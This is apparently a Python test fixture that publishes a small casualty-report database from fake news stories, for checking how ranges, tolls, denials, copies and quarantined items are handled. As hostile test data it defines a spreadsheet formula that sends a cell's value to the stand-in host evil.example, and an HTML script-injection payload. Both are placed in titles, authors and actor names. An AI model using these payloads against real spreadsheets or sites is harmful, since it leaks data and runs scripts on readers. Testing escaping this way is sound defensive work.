"""A small published file with all that reports must show: ranges, parts, tolls, denials, copies, hostile words."""

from datetime import timedelta
from pathlib import Path

from tests.warehouse.records import IDLIB, MAARAT, MONDAY, NOON, Desk, copied, entry, poll, quarantined, report, story

from casualties.model import Actor, DateSpan, Denial, Figure, Place, Victim
from casualties.warehouse.publish import publish

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
SCRIPT = "</script><script>window.hit = 1</script><img src=x onerror='window.hit = 1'>"
SYRIA = Place(name="Syria", gazetteer_name="Syria", country="SYR", lat=35, lon=38, precision="country")
TUESDAY = DateSpan(start=MONDAY.start + timedelta(days=1), end=MONDAY.end + timedelta(days=1))


def publish_small(folder: Path) -> Path:
    """Seven stories of five outlets in two loads; the file's path."""
    desk = Desk(folder)
    strikes, count = story("alpha", "strikes", "Fifty-nine died"), story("beta", "count", "Sixty-one died")
    reprint = story("gamma", "strikes", "Fifty-nine died.")
    attack = story("alpha", "attack", f"{SCRIPT} killed dozens", title=SCRIPT, author=FORMULA)
    clash = story("beta", "clash", "Four fell in a clash", title=FORMULA)
    since_april = DateSpan(start=MONDAY.start.replace(month=4), end=MONDAY.end, precision="period")
    desk.load(
        poll("alpha", "run 1"), poll("beta", "run 1", status="timeout", etag=None), entry("alpha", "strikes"),
        strikes, reprint, copied(reprint, strikes),
        report(
            strikes, killed=59, actors=(Actor(name="Russia", status="accused"), Actor(name="Syria")),
            denials=(Denial(by="Moscow", actor="Russia"),), sources=("a monitor", "medics"),
            victims=(Victim(outcome="killed", group="children", low=7, best=7, high=7),),
        ),
        report(strikes, 1, killed=38, part_of=0, place=MAARAT),
        report(strikes, 2, killed=Figure(low=750, best=750, high=None), kind="toll", date=since_april),
        report(reprint, killed=59, copy_of=strikes.article_id),
        outlets=["alpha", "beta"],
    )  # fmt: skip
    later = NOON + timedelta(hours=3)
    desk.load(
        poll("alpha", "run 2", NOON + timedelta(days=1)), poll("beta", "run 2", NOON + timedelta(days=1), "timeout"),
        count, attack, clash,
        report(count, killed=61, injured=Figure(low=24, best=None, high=None), published=later),
        report(attack, killed=Figure(low=24, best=None, high=None, basis="vague", phrase="dozens"), place=SYRIA,
               date=TUESDAY, type="bombing", actors=(Actor(name=SCRIPT, status="suspected"),)),
        report(clash, killed=4, place=IDLIB, date=TUESDAY, type="armed_clash", sources=(FORMULA,),
               actors=(Actor(name="army", role="party"), Actor(name="rebels", role="party"))),
        quarantined("run 2", "article", "x1", url="https://gamma.example/odd"),
        outlets=["alpha", "beta"],
    )  # fmt: skip
    path = folder / "casualties.duckdb"
    publish(desk.warehouse, path, now=NOON, lock_timeout=5)
    return path
